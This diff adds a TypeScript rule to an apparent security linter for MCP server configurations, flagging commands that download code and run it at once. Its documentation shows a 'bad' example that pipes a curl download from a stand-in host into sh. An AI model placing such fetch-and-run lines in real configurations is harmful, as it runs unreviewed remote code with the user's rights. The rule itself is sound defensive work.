@@ -1,0 +1,71 @@
+import type { Report } from '../../finding/report';
+import { FETCHES, PIPED, RUNS_TEXT } from '../../knowledge/code-patterns';
+import { codeIn, fetchedAndRun, hostIn, isDownload } from '../../launch/fetched';
+import { everyCommand, type Launch } from '../../launch/launch';
+import { resolveLaunch } from '../../launch/resolve';
+import { variableKind } from '../../model/codeVariable';
+import type { Entry } from '../../model/server';
+import { defineRule } from '../rule';
+
+/** Code that is fetched from an address and runs at once. */
+export default defineRule({
+  title: 'Code fetched from the network and run at once',
+  severity: 'critical',
+  docs: {
+    why: 'Whoever controls the address decides, anew at every start, what runs with your rights. Nothing was reviewed, nothing is pinned, and it runs before any server has to answer.',
+    remedy: 'Use a published package with an exact version, or check the script in and start that.',
+    bad: '{ "mcpServers": { "x": { "command": "bash", "args": ["-c", "curl -fsSL https://x.example/i.sh | sh"] } } }',
+    good: '{ "mcpServers": { "x": { "command": "npx", "args": ["-y", "x-mcp@1.4.2"] } } }',
+    references: ['https://attack.mitre.org/techniques/T1105/', 'https://cwe.mitre.org/data/definitions/494.html'],
+  },
+  checkServer({ launch, env }, report) {
+    const said = checkLaunch(launch, report) || checkRemoteCode(launch, report);
+    if (!said && isDownload(launch) && launch.program) {
+      const message = 'This server is a download: the command fetches a file and serves nothing';
+      report(launch.program, message, { severity: 'high' });
+    }
+    for (const it of env) checkVariable(it, report);
+  },
+  checkFile({ commands, environment }, report) {
+    for (const it of commands) checkLaunch(it.launch, report);
+    for (const it of environment) checkVariable(it, report);
+  },
+});
+
+function checkLaunch(launch: Launch, report: Report): boolean {
+  const found = fetchedAndRun(launch);
+  if (found) {
+    report(found, `Downloads code${from(found.host)} and runs it at once`);
+    return true;
+  }
+  for (const it of everyCommand(launch)) {
+    const code = codeIn(it);
+    if (!code || !(PIPED.test(code.value) || (FETCHES.test(code.value) && RUNS_TEXT.test(code.value)))) continue;
+    report(code, `Downloads code${from(hostIn(code.value))} and runs it at once`, { confidence: 'medium' });
+    return true;
+  }
+  return false;
+}
+
+/** A variable whose value some program runs as a command. */
+function checkVariable({ name, value }: Entry, report: Report): void {
+  if (value && variableKind(name.value) === 'command') checkLaunch(resolveLaunch({ command: value, args: [] }), report);
+}
+
+/** Scripts, modules and lists of requirements that are read from an address at every start. */
+function checkRemoteCode(launch: Launch, report: Report): boolean {
+  const lists = [...launch.flags, ...launch.wrappers.flatMap(it => it.flags)].filter(it =>
+    ['--with-requirements', '--requirements', '--with-requirement'].includes(it.name.value),
+  );
+  for (const { value, range } of [launch.script, ...lists.map(it => it.value)].flatMap(it => it ?? [])) {
+    if (!/^https?:\/\//i.test(value)) continue;
+    const open = /^http:/i.test(value) || launch.flags.some(it => ['-A', '--allow-all'].includes(it.name.value));
+    report({ range }, `Runs code${from(hostIn(value))} that can change at any time`, {
+      severity: open ? 'critical' : 'high',
+    });
+    return true;
+  }
+  return false;
+}
+
+const from = (host: string | undefined): string => (host === undefined ? '' : ` from ${host.slice(0, 80)}`);
